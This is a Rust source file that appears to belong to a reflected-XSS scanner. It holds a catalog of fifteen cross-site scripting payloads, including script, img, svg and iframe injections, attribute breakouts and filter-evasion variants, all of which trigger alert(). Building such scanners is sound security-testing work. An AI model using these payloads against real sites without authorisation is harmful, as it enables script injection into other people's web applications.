//! Static catalog of reflected XSS test strings.
//!
//! Detection is a literal substring match, so every entry must be distinct and
//! must survive URL encoding unchanged once the server decodes it.

pub const DEFAULT_PAYLOADS: &[&str] = &[
    // Basic tags
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg/onload=alert('XSS')>",
    // Attribute breakouts
    "' onmouseover='alert(1)",
    "' onclick='alert(1)",
    "\"><script>alert('XSS')</script>",
    // Filter evasion
    "<scRipt>alert('XSS')</scRipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<script>alert(\"XSS\")</script>",
    // Specialized vectors
    "<iframe src=\"javascript:alert('XSS')\">",
    "<body onload=alert('XSS')>",
    "<a href=\"javascript:alert('XSS')\">click</a>",
    "<img src=\"javascript:alert('XSS')\">",
    "<div style=\"background-image:url(javascript:alert('XSS'))\">",
    "<input type=\"text\" value=\"\" onfocus=alert('XSS') autofocus>",
];

/// Owned copy of the default catalog, for configuration values.
pub fn default_payloads() -> Vec<String> {
    DEFAULT_PAYLOADS.iter().map(|p| p.to_string()).collect()
}
